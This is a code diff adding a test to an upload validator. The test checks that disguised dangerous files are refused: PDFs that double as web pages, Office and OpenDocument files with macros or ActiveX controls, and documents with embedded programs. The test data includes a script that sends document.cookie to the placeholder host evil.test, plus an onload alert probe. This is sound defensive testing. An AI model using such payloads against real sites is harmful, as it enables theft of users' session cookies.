@@ -1,7 +1,7 @@
 import { HttpProblem } from '../errors';
 import { DatabaseFileStore, FileModel } from './file-store';
 import {
-  sampleExe, sampleGif, sampleHeic, sampleJpeg, sampleOffice, sampleOpenDocument, samplePdf, samplePng, sampleWebp, zip,
+  sampleExe, sampleGif, sampleHeic, sampleJpeg, sampleOffice, sampleOlePackage, sampleOpenDocument, samplePdf, samplePng, sampleProgram, sampleWebp, zip,
 } from './sample-files';
 import { attachmentPolicy, checkUpload, imagePolicy, storeUpload, type UploadPolicy } from './upload-check';
 
@@ -91,6 +91,27 @@ describe('checkUpload', () => {
       expect(problem.status).withContext(name).toBe(415);
       expect(problem.detail).withContext(name).toContain(what);
     }
+  });
+
+  it('refuses content that could run although its type is accepted: a PDF that is also a web page, macros, controls, embedded programs', async () => {
+    const cases: [Buffer, string, string][] = [
+      [Buffer.from('%PDF-1.4\n<html><script>document.location="https://evil.test/?"+document.cookie</script></html>'), 'payslip.pdf', 'web page markup'],
+      [Buffer.concat([samplePdf(), Buffer.from('\n<!DOCTYPE html><body onload="alert(1)">')]), 'scan.pdf', 'web page markup'],
+      [sampleOffice('docx', { 'word/vbaProject.bin': Buffer.from('VBA project') }), 'letter.docx', 'macros or controls (word/vbaProject.bin)'],
+      [sampleOffice('xlsx', { 'xl/activeX/activeX1.bin': Buffer.from('control') }), 'hours.xlsx', 'macros or controls (xl/activeX/activeX1.bin)'],
+      [sampleOpenDocument('odt', { 'Basic/Standard/Module1.xml': '<script:module/>' }), 'letter.odt', 'macros or controls (Basic/Standard/Module1.xml)'],
+      [sampleOffice('docx', { 'word/embeddings/oleObject1.bin': sampleOlePackage(sampleProgram()) }), 'form.docx', 'program or an oversized object embedded in it (word/embeddings/oleObject1.bin)'],
+      [sampleOffice('pptx', { 'ppt/embeddings/setup.exe': sampleExe() }), 'deck.pptx', 'ppt/embeddings/setup.exe'],
+      [sampleOpenDocument('ods', { 'Object 1': sampleOlePackage(sampleProgram()) }), 'sheet.ods', '(Object 1)'],
+    ];
+    for (const [bytes, name, what] of cases) {
+      const problem = await refusal(bytes, name);
+      expect([problem.status, problem.code]).withContext(name).toEqual([422, 'file_unsafe']);
+      expect(problem.detail).withContext(name).toContain(what);
+    }
+    // What such documents usually hold stays welcome: a spreadsheet embedded in a letter, a PDF with text.
+    await expectAsync(accepted(sampleOffice('docx', { 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': sampleOffice('xlsx'), 'word/media/image1.png': samplePng() }), 'letter.docx')).toBeResolved();
+    await expectAsync(accepted(samplePdf('<< /Title (Offer letter: salary <EUR 40,000>) >>'), 'offer.pdf')).toBeResolved();
   });
 
   it('refuses a name whose extension disagrees with the content, saying what the content is', async () => {
